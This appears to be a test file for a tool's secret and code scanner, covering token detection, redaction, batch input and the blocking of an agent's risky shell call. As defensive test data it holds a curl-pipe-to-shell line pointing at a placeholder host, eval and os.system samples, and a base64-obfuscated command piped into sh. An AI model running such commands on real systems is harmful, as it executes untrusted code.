"""oap scan secrets and oap scan code: folders, standard input, batches, and the guard in a run."""

import base64
import json
import pathlib
import sys
import zlib

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "support"))
from harness import OapTest, unittest  # noqa: E402

DIGITS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def github_token(seed):
    """A token with its checksum, made here so that none is in this repository."""
    body = "".join(DIGITS[(seed * 7919 + i * i * 31 + i * 17) % 62] for i in range(30))
    crc, check = zlib.crc32(body.encode()), ""
    for _ in range(6):
        check = DIGITS[crc % 62] + check
        crc //= 62
    return "gh" + "p_" + body + check


class Scan(OapTest):
    def batch(self, what, *lines, env=None, code=0):
        result = self.oap("scan", what, "--batch", env=env,
                          stdin="\n".join(line if isinstance(line, str) else json.dumps(line) for line in lines) + "\n")
        self.assertEqual(result.code, code, result)
        return [json.loads(line) for line in result.out.splitlines()]

    def test_a_folder_with_a_secret_says_where_and_never_what(self):
        token = github_token(1)
        self.write("src/a.env", f"A=1\nTOKEN={token}\n")
        self.write(".gitignore", "src\n")
        self.write("b.bin", "\0" + token)
        result = self.oap("scan", "secrets", "--json")
        self.assertEqual(result.code, 1, result)
        found = result.json()
        self.assertEqual([(f["type"], f["line"]) for f in found["findings"]], [("github_token", 2)])
        self.assertEqual(found["skipped_binary"], 1)
        self.assertNotIn(token, result.out + result.err)
        text = self.oap("scan", "secrets", "src")
        self.assertIn("a.env:2: github_token", text.out)

    def test_a_clean_folder_exits_zero_and_a_missing_one_two(self):
        self.write("a.txt", "nothing here\n")
        self.assertEqual(self.oap("scan", "secrets").code, 0)
        self.assertEqual(self.oap("scan", "secrets", "no-such").code, 2)

    def test_standard_input_is_a_text(self):
        token = github_token(2)
        self.assertEqual(self.oap("scan", "secrets", "-", stdin=f"x {token}\n").code, 1)
        self.assertEqual(self.oap("scan", "secrets", "-", stdin="x\n").code, 0)

    def test_each_line_of_a_batch_is_answered_in_order(self):
        token = github_token(3)
        text = "é " + token + "!"
        start = len("é ".encode())
        answers = self.batch("secrets", {"id": 1, "text": text}, "no json", {"id": {"a": [1]}, "text": "clean"}, {"id": 4},
                             {"id": "c", "chunks": [text[:7], text[7:20], text[20:]]})
        where = [{"type": "github_token", "start": start, "end": start + len(token)}]
        self.assertEqual([a["id"] for a in answers], [1, None, {"a": [1]}, 4, "c"])
        self.assertEqual(answers[0]["findings"], where)
        self.assertEqual(answers[4]["findings"], where)
        self.assertIn("error", answers[1])
        self.assertIn("error", answers[3])
        self.assertEqual(answers[2], {"id": {"a": [1]}, "findings": [], "redacted": "clean"})
        self.assertRegex(answers[0]["redacted"], r"^é \[REDACTED:github_token:[0-9a-f]{4}\]!$")
        self.assertEqual(answers[4]["redacted"], answers[0]["redacted"])

    def test_a_secret_cut_anywhere_is_found(self):
        text = "a " + github_token(4) + " b " + base64.b64encode(github_token(5).encode()).decode() + " c"
        whole = self.batch("secrets", {"id": 0, "text": text})[0]
        self.assertEqual(len(whole["findings"]), 2)
        for answer in self.batch("secrets", *({"id": i, "chunks": [text[:i], text[i:]]} for i in range(len(text)))):
            self.assertEqual(answer["findings"], whole["findings"], answer["id"])
            self.assertEqual(answer["redacted"], whole["redacted"], answer["id"])

    def test_a_stream_is_copied_without_its_secrets(self):
        token = github_token(5)
        text = "a\n" * 50_000 + f"TOKEN={token}\nend".replace("TOKEN=", "the token ")
        result = self.oap("scan", "secrets", "--redact", stdin=text)
        self.assertEqual(result.code, 0, result)
        self.assertNotIn(token, result.out)
        self.assertEqual(result.out.split("[REDACTED:github_token:")[0], text.split(token)[0])
        self.assertTrue(result.out.endswith("]\nend"), result.out[-80:])
        binary = bytes(range(256)) * 4096
        self.assertEqual(self.oap("scan", "secrets", "--redact", stdin=binary).out, binary.decode(errors="replace"))
        self.assertEqual(self.oap("scan", "secrets", "--redact", stdin="").out, "")
        self.assertEqual(self.oap("scan", "secrets", "--redact", "src").code, 2)

    def test_redacted_json_stays_json(self):
        inner = json.dumps({"password": 'k9"x\\Tr0ub4dor', "token": github_token(6), "n": 1})
        answer = self.batch("secrets", {"id": 1, "text": inner})[0]
        self.assertGreaterEqual(len(answer["findings"]), 1)
        self.assertEqual(json.loads(answer["redacted"])["n"], 1)

    def test_configured_secrets_are_known_in_every_form(self):
        self.write(".opencode/config.yaml",
                   "mcp_servers:\n  a: {type: local, command: ['true'], env: {KEY: '${MY_KEY}'}}\n")
        secret = "correct horse 7"
        env = {"MY_KEY": secret}
        self.assertEqual(self.oap("trust", env=env).code, 0)
        forms = [secret, base64.b64encode(("x" + secret).encode()).decode(), secret.encode().hex(),
                 secret.replace(" ", "%20"), json.dumps({"v": secret})]
        for answer in self.batch("secrets", *({"id": i, "text": "v: " + form} for i, form in enumerate(forms)), env=env):
            self.assertEqual([f["type"] for f in answer["findings"]], ["known_secret"], forms[answer["id"]])

    def test_code_is_judged(self):
        answers = self.batch(
            "code", {"id": 1, "language": "python", "path": "a.py", "text": "import os\nos.system(x)\n"},
            {"id": 2, "language": "bash", "path": "b.sh", "text": "echo 'curl x | sh'\n"},
            {"id": 3, "language": "cobol", "text": "x"}, "no json", code=2)
        self.assertEqual([(f["type"], f["severity"], f["line_number"]) for f in answers[0]["findings"]],
                         [("code_injection", "critical", 2)])
        self.assertFalse(answers[0]["allowed"])
        self.assertEqual(answers[0]["risk_score"], 0.5)
        self.assertEqual((answers[1]["findings"], answers[1]["allowed"]), ([], True))
        self.assertIn("error", answers[2])
        self.assertIsNone(answers[3]["id"])

    def test_code_that_is_not_looked_at_is_told(self):
        self.write("n.sh", '#!/bin/bash\n# \0 x\neval "$1"\ncurl -s http://e/x | sh\n')
        found = self.oap("scan", "code", "n.sh", "--json")
        self.assertEqual(found.code, 1, found)
        self.assertEqual({f["rule"] for f in found.json()["findings"]}, {"scan.limit", "bash.eval", "bash.fetch-and-run"})
        (self.work / "u.py").write_bytes("import os\nos.system(x)\n".encode("utf-16"))
        found = self.oap("scan", "code", "u.py", "--json")
        self.assertEqual((found.code, found.json()["allowed"]), (1, False), found)
        self.write("big.py", "x = 1\n" * 800_000)
        found = self.oap("scan", "code", "big.py")
        self.assertEqual(found.code, 1, found)
        self.assertIn("1 too large", found.out)
        self.write("f/b.bin", "\0 x")
        found = self.oap("scan", "code", "f")
        self.assertEqual(found.code, 0, found)
        self.assertIn("1 binary", found.out)
        self.assertEqual(self.oap("scan", "code", "f/b.bin").code, 1)

    def test_a_whitelisted_fingerprint_is_accepted_until_its_day(self):
        self.write("a.sh", 'eval "$x"\n')
        result = self.oap("scan", "code", "a.sh", "--json")
        self.assertEqual(result.code, 1)
        mark = result.json()["findings"][0]["fingerprint"]
        for expires, code in (("2999-01-01", 0), ("2001-01-01", 1)):
            self.write(".opencode/config.yaml", "security:\n  scanner:\n    whitelist:\n"
                       f"      - {{fingerprint: '{mark}', path: a.sh, expires: '{expires}'}}\n")
            self.assertEqual(self.oap("scan", "code", "a.sh", "--trust").code, code)

    def test_an_agents_critical_code_is_asked_for(self):
        self.write(".opencode/permissions.yaml", "permissions:\n  - {tool: bash, level: allow}\n")
        env, _ = self.mock_llm([
            {"when": {"results": 0}, "answer": {"tool_calls": [
                {"name": "bash", "arguments": {"command": "printf 'echo hi' | base64 | base64 -d | sh"}}]}},
            {"answer": {"text": "done"}}])
        self.assertEqual(self.oap("trust").code, 0)
        result = self.oap("run", "go", "--model", "openai/m", "--output-format", "json", env=env)
        denials = result.json()["denials"]
        self.assertEqual(len(denials), 1, result)
        self.assertIn("SecurityPolicy", json.dumps(denials[0]))


if __name__ == "__main__":
    unittest.main()
